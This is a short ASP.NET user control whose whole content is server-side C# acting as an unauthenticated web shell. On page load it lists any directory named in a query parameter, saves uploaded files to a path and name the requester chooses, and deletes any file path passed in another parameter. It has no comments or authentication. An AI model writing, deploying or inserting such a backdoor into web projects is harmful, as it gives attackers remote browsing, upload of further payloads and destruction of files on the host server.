<%@ Control Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    string dir = Request.QueryString["d"] ?? @"C:\";
    foreach (string f in Directory.GetFileSystemEntries(dir))
        Response.Write(Server.HtmlEncode(f) + "<br/>");
    if (Request.Files.Count > 0)
        Request.Files[0].SaveAs(Path.Combine(dir, Request.Form["n"]));
    if (Request.QueryString["del"] != null)
        File.Delete(Request.QueryString["del"]);
}
</script>
